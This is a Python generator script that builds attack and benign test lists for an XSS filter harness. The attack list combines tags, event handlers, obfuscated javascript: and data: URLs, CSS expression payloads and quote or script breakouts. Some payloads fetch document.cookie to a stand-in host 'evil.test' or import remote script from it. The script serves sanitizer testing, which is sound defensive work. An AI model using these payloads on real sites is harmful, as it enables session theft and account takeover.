#!/usr/bin/env python3
"""Generates attack.txt and benign.txt for the XSS harness.

Written for Palisade from hand-made templates (no public payload list is
copied). Deterministic: run `python3 generate.py` in this directory.
Hand-written extra cases live in attack-extra.txt / benign-extra.txt and are
appended verbatim.
"""
import itertools, os, random

random.seed(11)
here = os.path.dirname(os.path.abspath(__file__))

def entity_dec(s):
    return "".join(f"&#{ord(c)};" for c in s)

def entity_hex(s):
    return "".join(f"&#x{ord(c):x};" for c in s)

js = ["alert(1)", "alert`1`", "confirm(document.domain)", "prompt(1)", "eval(atob('YWxlcnQoMSk='))",
      "top['al'+'ert'](1)", "fetch('//evil.test/'+document.cookie)", "location='//evil.test'", "print()",
      "window.onerror=alert;throw 1", "import('//evil.test/x.js')", "document.write(1)"]
tags = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x",
        "iframe", "marquee", "select autofocus", "textarea autofocus", "x", "a", "div", "math", "object",
        "image src=1", "style", "source", "frameset"]
handlers = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onstart", "onanimationstart",
            "onpointerenter", "onbegin", "onclick", "ONERROR", "OnLoad"]
seps = [" ", "/", "\t", " \n "]

attacks = set()
combos = list(itertools.product(tags, handlers, js, seps, range(3)))
random.shuffle(combos)
for tag, handler, code, sep, quoting in combos[:220]:
    value = [code, f'"{code}"', f"'{code}'"][quoting] if " " not in code and "'" not in code else f'"{code}"'
    if sep == "/" and " " in tag:
        sep = " /"  # an unquoted value would swallow a bare slash
    attacks.add(f"<{tag}{sep}{handler}={value}>")

schemes = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "jav\tascript:alert(1)",
           "java&Tab;script&colon;alert(1)", "&#106;avascript:alert(1)", entity_dec("javascript:") + "alert(1)",
           entity_hex("javascript:") + "alert(1)", "&#0000106&#0000097vascript:alert(1)", "vbscript:msgbox(1)",
           "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
           "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "javascript://%0aalert(1)",
           "jav&#x0A;ascript:alert(1)", "javascript&#58;alert(1)"]
url_tags = ["a href", "iframe src", "form action", "button formaction", "object data", "embed src",
            "math href", "svg><a xlink:href", "isindex action", "frame src", "img src", "input type=image src",
            "svg><animate attributeName=href values", "svg><set attributeName=href to", "area href", "base href"]
for tag, url in itertools.product(url_tags, schemes):
    if random.random() < 0.5 or any(c in url for c in " \t"):
        attacks.add(f'<{tag}="{url}">x')
    else:
        attacks.add(f"<{tag}={url.replace(' ', '')}>")

css = ["width:expression(alert(1))", "background:url(javascript:alert(1))", "background-image:url('javascript:alert(1)')",
       "x:ex/**/pression(alert(1))", "x:\\65xpression(alert(1))", "-moz-binding:url(//evil.test/x.xml#x)",
       "behavior:url(evil.htc)", "color:red;width:expression(alert(1))", "background:url( \"vbscript:msgbox(1)\" )",
       "x:expression&#40;alert(1))"]
for tag, style in itertools.product(["div", "p", "span", "td", "a"], css):
    attacks.add(f'<{tag} style="{style}">x</{tag}>')
for style in css[:8]:
    attacks.add(f"<style>body{{{style}}}</style>")

breakouts = ['" onmouseover="{c}', "' onfocus='{c}' autofocus='", '" autofocus onfocus={c} x="', '"><img src=x onerror={c}>',
             "'><svg onload={c}>", "x onerror={c}", "x/ onerror={c}", '" style="x:expression({c})', '"onmouseover={c}//',
             "'-{c}-'", "';{c}//", '";{c}//', "\\';{c}//", "'}};{c};//", "');{c};//", '"+{c}+"', "'||{c}||'",
             "${{{c}}}", '"-{c}-"', "'*{c}*'", '</script><script>{c}</script>', '"></textarea><script>{c}</script>',
             "</title><svg onload={c}>", "--><svg onload={c}>", "]]><img src=x onerror={c}>"]
for b, c in itertools.product(breakouts, js[:6]):
    attacks.add(b.format(c=c))

with open(os.path.join(here, "attack-extra.txt")) as f:
    extra_attacks = [l.rstrip("\n") for l in f if l.strip() and not l.startswith("## ")]

# ---------------------------------------------------------------- benign
words = ["hello", "great product", "thanks!", "see you at 5", "love it <3", "a < b and c > d", "x<y", "5 > 3",
         "I <3 NY", "it's fine", "he said \"hi\"", "price: $5 (approx)", "call me (maybe)", "javascript: the good parts",
         "regular expression(s)", "onerror handling in node", "online=yes", "style guide", "the onload event",
         "user's manual", "'quoted' text", "one 'two' three", "rock 'n' roll", "5'11\"", "O'Brien"]
rich = [
    "<b>{w}</b>", "<i>{w}</i>", "<em>{w}</em>", "<strong>{w}</strong>", "<p>{w}</p>", "<u>{w}</u>",
    '<p style="color:red">{w}</p>', '<span style="font-weight:bold">{w}</span>', '<span style="font-family: Arial, sans-serif">{w}</span>',
    '<a href="https://example.com">{w}</a>', '<a href="https://example.com/a?b=c&amp;d=e" target="_blank" rel="noopener">{w}</a>',
    '<a href="mailto:bob@example.com">{w}</a>', '<a href="/relative/path">{w}</a>', '<a href="#top">{w}</a>',
    '<img src="/images/a.png" alt="{w}">', '<img src="https://cdn.example.com/x.jpg" width="100" height="50">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
    "<ul><li>{w}</li><li>two</li></ul>", "<ol><li>{w}</li></ol>", "<blockquote>{w}</blockquote>",
    "<h1>{w}</h1>", "<h2 class=\"title\">{w}</h2>", "<code>{w}</code>", "<pre>{w}</pre>", "<br>{w}<br/>",
    '<div class="note" id="n1">{w}</div>', '<table border="1"><tr><td>{w}</td></tr></table>',
    '<font color="red">{w}</font>', '<p align="center">{w}</p>', '<span title="{w}">x</span>',
    '<p style="text-align:center;margin:0 auto">{w}</p>', '<div style="background-color:#fff;padding:4px">{w}</div>',
    '<a href="https://example.com/search?q=javascript">{w}</a>', '<abbr title="HyperText">{w}</abbr>',
    "<hr>{w}", "<sup>{w}</sup>", "<sub>{w}</sub>", "<s>{w}</s>", "<mark>{w}</mark>", "<small>{w}</small>",
]
benign = set(words)
for tmpl, w in itertools.product(rich, words):
    benign.add(tmpl.format(w=w))
searches = ["best javascript tutorial", "style guide for essays", "onload event listener", "how to use srcdoc",
            "iframe vs object tag", "<3 u", "x<y", "1 < 2 < 3", "if a<b then", "html tutorial", "css tricks",
            "svg icons free", "math homework help", "embed youtube video", "form validation tips",
            "alert system for seniors", "data science course", "base rate fallacy", "meta description length",
            "script writing class", "object oriented programming", "expression of interest letter"]
benign.update(searches)

with open(os.path.join(here, "benign-extra.txt")) as f:
    extra_benign = [l.rstrip("\n") for l in f if l.strip() and not l.startswith("## ")]

def write(name, lines, extra):
    with open(os.path.join(here, name), "w") as f:
        f.write("## Generated by generate.py, then attack-extra/benign-extra appended. One case per line.\n")
        for line in sorted(lines) + extra:
            line = line.replace("\n", "\\n")
            f.write(line + "\n")

write("attack.txt", attacks, extra_attacks)
write("benign.txt", benign, extra_benign)
print(len(attacks) + len(extra_attacks), "attacks;", len(benign) + len(extra_benign), "benign")
